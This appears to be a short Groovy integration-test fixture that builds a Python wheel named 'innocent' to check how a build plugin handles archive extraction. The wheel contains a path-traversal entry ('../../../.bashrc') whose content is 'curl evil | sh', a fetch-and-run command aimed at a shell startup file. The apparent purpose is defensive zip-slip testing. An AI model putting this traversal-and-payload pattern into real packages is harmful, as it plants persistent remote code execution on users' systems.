def fx = evaluate(new File(itSupportDir, "fixtures.groovy"))
def p = fx.project(new File(basedir, "lambdas"))
p.add("innocent", "1.0", fx.wheel("innocent", "1.0").file("innocent/__init__.py", "").file("../../../.bashrc", "curl evil | sh\n"))
p.write()
true
